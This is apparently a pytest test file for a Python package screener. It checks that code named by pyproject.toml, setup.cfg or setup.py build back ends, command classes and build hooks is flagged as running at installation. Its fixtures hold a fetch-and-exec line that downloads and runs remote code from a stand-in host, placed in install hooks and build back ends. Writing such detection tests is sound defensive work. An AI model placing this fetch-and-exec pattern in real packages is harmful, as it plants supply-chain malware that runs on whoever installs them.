"""Whatever a build of a source tree runs is read in the phase of installation."""

# ruff: noqa: E501 - a case is read best on one line

from __future__ import annotations

from collections.abc import Mapping

import pytest

from pratique.finding import Finding, Phase
from pratique.screen import screen_bytes
from tests.support.distributions import make_sdist

_STAGE = "import urllib.request as u\nexec(u.urlopen('https://stage.example.invalid/a').read())\n"
_RUN = "    import urllib.request as u\n    exec(u.urlopen('https://stage.example.invalid/a').read())\n"
_METHOD = _RUN.replace("    ", "        ")


def _proven(files: Mapping[str, str]) -> set[tuple[str, Phase]]:
    return {(f.path, f.phase) for f in _findings(files) if f.proven}


def _findings(files: Mapping[str, str]) -> tuple[Finding, ...]:
    built = make_sdist("example-pkg", "1.0", files)
    return screen_bytes(built.data, filename=built.filename).findings


@pytest.mark.parametrize(
    ("configuration", "path", "source"),
    [
        ("[build-system]\nbuild-backend='b'\nbackend-path=['_x']\n", "_x/b.py", _STAGE),
        ("[build-system]\nbuild-backend='b'\nbackend-path=['_x']\n", "_x/b.py", f"def build_wheel(d, c=None):\n{_RUN}"),
        ("[build-system]\nbuild-backend='b'\nbackend-path=['.']\n", "b.py", f"def prepare_metadata_for_build_wheel(d):\n{_RUN}"),
        ("[tool.setuptools.cmdclass]\ninstall='tools.i.I'\n", "tools/i.py", f"from setuptools.command.install import install\nclass I(install):\n    def run(self):\n{_METHOD}"),
        ("[tool.setuptools.dynamic]\nversion={attr='tools.v.V'}\n", "tools/v.py", _STAGE),
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py", f"class H(BuildHookInterface):\n    def initialize(self, v, d):\n{_METHOD}"),
        ("[tool.hatch.metadata.hooks.custom]\npath='tools/m.py'\n", "tools/m.py", _STAGE),
        ("[tool.hatch.build.targets.wheel.hooks.custom]\npath='tools/m.py'\n", "tools/m.py", _STAGE),
        ("[tool.pdm.build]\ncustom-hook='scripts/b.py'\n", "scripts/b.py", f"def pdm_build_initialize(context):\n{_RUN}"),
        ("[tool.poetry.build]\nscript='scripts/b.py'\n", "scripts/b.py", f"def build(kwargs):\n{_RUN}"),
        ("[tool.poetry]\nbuild='scripts/b.py'\n", "scripts/b.py", _STAGE),
    ],
)  # fmt: skip
def test_what_pyproject_names_runs_at_installation(configuration: str, path: str, source: str) -> None:
    """Back ends, command classes and hooks are followed as the build calls them."""
    assert (path, Phase.INSTALL) in _proven({"pyproject.toml": configuration, path: source})


def test_what_setup_cfg_names_runs_at_installation() -> None:
    """A command class and a looked-up attribute of ``setup.cfg``."""
    files = {
        "setup.py": "from setuptools import setup\nsetup()\n",
        "setup.cfg": "[metadata]\nversion = attr: tools.v.V\n[options]\ncmdclass =\n    install = evil.I\n",
        "evil.py": f"from setuptools.command.install import install\nclass I(install):\n    def run(self):\n{_METHOD}",
        "tools/v.py": _STAGE,
    }
    assert _proven(files) == {("evil.py", Phase.INSTALL), ("tools/v.py", Phase.INSTALL)}


def test_a_literal_is_read_without_running_its_module() -> None:
    """What setuptools looks up by reading only is not run by the build."""
    files = {
        "pyproject.toml": "[tool.setuptools.dynamic]\nversion={attr='tools.v.V'}\n",
        "tools/v.py": f"V = '1'\n{_STAGE}",
    }
    assert _proven(files) == set()


def test_what_setup_imports_runs_with_it() -> None:
    """Helpers of a build script, and their helpers, are no mere scripts."""
    files = {"setup.py": "from tools import x\n", "tools/x.py": "import y\n", "tools/y.py": _STAGE}
    assert _proven(files) == {("tools/y.py", Phase.INSTALL)}


def test_scripts_that_nothing_names_are_not_run() -> None:
    """The same file without anybody who runs it proves nothing."""
    assert _proven({"pyproject.toml": "[tool.hatch.version]\npath='tools/x.py'\n", "tools/x.py": _STAGE}) == set()


@pytest.mark.parametrize("name", ["pyproject.toml", "setup.cfg"])
@pytest.mark.parametrize(
    "text", ["[tool\n", "\0", "[tool.hatch]\nbuild = 1\n[tool.pdm]\nbuild=[]\n", "[options]\ncmdclass = x\n"]
)
def test_broken_configuration_is_survived(name: str, text: str) -> None:
    """Nonsense in a configuration file is not an error of the inspection."""
    built = make_sdist("example-pkg", "1.0", {name: text, "setup.py": "import os\n"})
    assert screen_bytes(built.data, filename=built.filename).error == ""
